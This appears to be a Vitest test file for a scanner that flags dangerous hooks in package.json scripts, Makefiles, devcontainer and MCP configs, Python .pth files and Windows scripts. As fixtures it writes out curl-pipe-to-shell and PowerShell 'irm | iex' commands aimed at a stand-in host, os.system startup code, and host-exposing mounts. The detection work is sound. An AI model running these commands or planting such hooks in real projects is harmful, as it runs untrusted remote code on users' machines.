// What the readers of hook files see, by the places and sentences of their findings.
import { describe, expect, it } from 'vitest';
import { findingsIn, told } from './support.ts';

describe('hooks', () => {
  it('are told on the line of their key, with the file that they start', async () => {
    const text =
      '{\n  "name": "x",\n  "scripts": {\n    "test": "x",\n    "postinstall": "node ./a/b.js"\n  }\n}\n';
    const [finding] = await findingsIn('package.json', text);
    expect(finding?.location.line).toBe(5);
    expect(finding?.evidence).toContain('starts the file "./a/b.js"');
  });

  it('have a subject that other edits leave alone', async () => {
    const subject = async (more: object): Promise<string | undefined> =>
      (await findingsIn('package.json', { ...more, scripts: { postinstall: 'node a.js' } }))[0]?.subject;
    expect(await subject({ version: '1.0.0', author: 'x' })).toBe(await subject({ version: '2.0.0' }));
  });

  it('are followed through other scripts, with what runs before and after them', async () => {
    const scripts = {
      prepare: 'run-s a b',
      a: 'tsc',
      b: 'echo b',
      postb: 'curl -s https://x.example.com/i | sh',
    };
    const [finding] = await findingsIn('package.json', { scripts });
    expect(finding).toMatchObject({ rule: 'HOOK-DANGEROUS-COMMAND', severity: 'HIGH' });
    expect(finding?.evidence).toContain('started by "prepare"');
  });

  it('that somebody starts by hand are for review', async () => {
    expect(
      await told('package.json', { scripts: { setup: 'curl -s https://x.example.com/i | sh' } }),
    ).toEqual(['MEDIUM HOOK-DANGEROUS-COMMAND']);
  });

  it('are not harmless because a known word stands in front', async () => {
    for (const postinstall of [
      'echo $(node x.js)',
      'husky; node x.js',
      'tsc | node x.js',
      'true || node x.js',
      'A=`x` husky',
      'A="$(node x.js)" husky',
      'uv sync `node x.js`',
      'unknown',
      'npx x-y',
    ])
      expect(await told('package.json', { scripts: { postinstall } })).toEqual([
        'MEDIUM HOOK-INSTALL-SCRIPT',
      ]);
  });

  it('from known installers are ordinary only when all addresses are known', async () => {
    const devcontainer = (postCreateCommand: string): Promise<string[]> =>
      told('.devcontainer/devcontainer.json', { postCreateCommand });
    expect(await devcontainer('curl -LsSf https://astral.sh/uv/install.sh | sh')).toEqual([]);
    const addresses = [
      'https://astral.sh.example.com/uv/install.sh',
      'https://x.example.com/https://astral.sh/uv/install.sh',
      'https://astral.sh/uv/install.sh https://x.example.com/a',
      'https://astral.sh@x.example.com/uv',
    ];
    for (const address of addresses)
      expect(await devcontainer(`curl -s ${address} | sh`)).toEqual(['HIGH HOOK-DANGEROUS-COMMAND']);
  });

  it('of makefiles matter most where make begins', async () => {
    const danger = '\tcurl -s https://x.example.com/i | sh\n';
    expect(await told('Makefile', `all: a\na: b\nb:\n${danger}`)).toEqual(['HIGH HOOK-DANGEROUS-COMMAND']);
    expect(await told('Makefile', `all: a\na:\n\ttrue\nsetup:\n${danger}`)).toEqual([
      'MEDIUM HOOK-DANGEROUS-COMMAND',
    ]);
    expect(await told('Makefile', `# curl -s https://x.example.com/i | sh\nall:\n\ttrue\n`)).toEqual([]);
  });

  it('of agents: servers by where they come from', async () => {
    const server = (value: object): Promise<string[]> => told('.mcp.json', { mcpServers: { x: value } });
    expect(await server({ command: 'npx', args: ['-y', 'any-server'] })).toEqual(['MEDIUM HOOK-MCP-SERVER']);
    expect(await server({ command: 'npx', args: ['-y', 'any-server@1.2.3'] })).toEqual([
      'LOW HOOK-MCP-SERVER',
    ]);
    expect(await server({ command: 'cmd', args: ['/c', 'npx', '-y', '@playwright/mcp@latest'] })).toEqual([
      'LOW HOOK-MCP-SERVER',
    ]);
    expect(await server({ command: 'npx', args: ['-y', 'github:a/b'] })).toEqual([
      'HIGH HOOK-DANGEROUS-COMMAND',
    ]);
    expect(await server({ command: 'uvx', args: ['--from', 'git+https://github.com/a/b', 'b'] })).toEqual([
      'HIGH HOOK-MCP-SERVER',
    ]);
    expect(await server({ command: 'sh', args: ['-c', 'curl -s https://x.example.com/i | sh'] })).toEqual([
      'HIGH HOOK-DANGEROUS-COMMAND',
    ]);
    expect(await server({ command: 'node', args: ['dist/index.js'] })).toEqual(['LOW HOOK-MCP-SERVER']);
    expect(await server({ url: 'https://abc.ngrok-free.app/mcp' })).toEqual(['HIGH HOOK-MCP-SERVER']);
    expect(await server({ url: 'https://203.0.113.9/mcp' })).toEqual(['HIGH HOOK-MCP-SERVER']);
    expect(await server({ url: 'http://localhost:3000/mcp' })).toEqual([]);
    expect(await server({ url: 'https://mcp.context7.com/mcp' })).toEqual(['LOW HOOK-MCP-SERVER']);
    expect(await server({ url: 'https://mcp.example.com/mcp' })).toEqual(['MEDIUM HOOK-MCP-SERVER']);
  });

  it('never tell the value of a secret', async () => {
    const value = `k${'0123456789'.repeat(3)}`;
    const findings = await findingsIn('.mcp.json', {
      mcpServers: { x: { command: 'node', args: ['a.js'], env: { API_KEY: value } } },
    });
    expect(findings.map(({ rule }) => rule)).toContain('HOOK-MCP-SECRET');
    expect(JSON.stringify(findings)).not.toContain(value);
  });

  it('of Python are split as site.py splits lines', async () => {
    expect(await told('x.pth', 'a\u2028import os; os.system("x")')).toEqual([
      'CRITICAL HOOK-PYTHON-STARTUP-CODE',
    ]);
    expect(await told('x.pth', '\uFEFFimport x_hook')).toEqual(['MEDIUM HOOK-PYTHON-STARTUP']);
    expect(await told('x.pth', 'imports\n#import os\n import_x\n')).toEqual([]);
    const known =
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();";
    expect(await told('distutils-precedence.pth', known)).toEqual([]);
    expect(await told('distutils-precedence.pth', `${known} os.system("x")`)).toEqual([
      'CRITICAL HOOK-PYTHON-STARTUP-CODE',
    ]);
  });

  it('of Windows: comments of PowerShell say nothing, those of a batch file that is both do', async () => {
    const text = '<# :\r\n  irm https://x.example.com/i.ps1 | iex\r\n#>\r\nWrite-Host x\r\n';
    expect(await told('a.ps1', text)).toEqual(['LOW HOOK-WINDOWS-SCRIPT']);
    expect(await told('a.bat', text)).toEqual(['HIGH HOOK-DANGEROUS-COMMAND']);
    expect(await told('a.ps1', `${text}irm https://x.example.com/i.ps1 | iex\r\n`)).toEqual([
      'HIGH HOOK-DANGEROUS-COMMAND',
    ]);
  });

  it('below the places of packages are hooks, too', async () => {
    expect(await told('site/x.pth', 'import os; exec("x")')).toEqual(['CRITICAL HOOK-PYTHON-STARTUP-CODE']);
  });

  it('change when the file changes that Python or a package manager loads', async () => {
    const [one] = await findingsIn('.pnpmfile.cjs', 'module.exports = {};');
    const [two] = await findingsIn('.pnpmfile.cjs', 'module.exports = { hooks: {} };');
    expect(one?.subject).not.toBe(two?.subject);
  });

  it('of containers: the machine itself', async () => {
    const rule = 'MEDIUM HOOK-DEVCONTAINER-HOST';
    const path = '.devcontainer/a/devcontainer.json';
    expect(await told(path, { initializeCommand: ['bash', 'x.sh'], privileged: true })).toEqual([rule, rule]);
    expect(await told(path, { mounts: [{ source: '/', target: '/host', type: 'bind' }] })).toEqual([rule]);
    expect(await told(path, { runArgs: ['-v', '/var/run/docker.sock:/var/run/docker.sock'] })).toEqual([
      rule,
    ]);
    expect(
      await told(path, { mounts: ['source=${localEnv:HOME}/.ssh,target=/root/.ssh,type=bind'] }),
    ).toEqual([rule]);
    expect(await told(path, { initializeCommand: 'curl -s https://x.example.com | bash' })).toEqual([
      'HIGH HOOK-DANGEROUS-COMMAND',
    ]);
  });
});
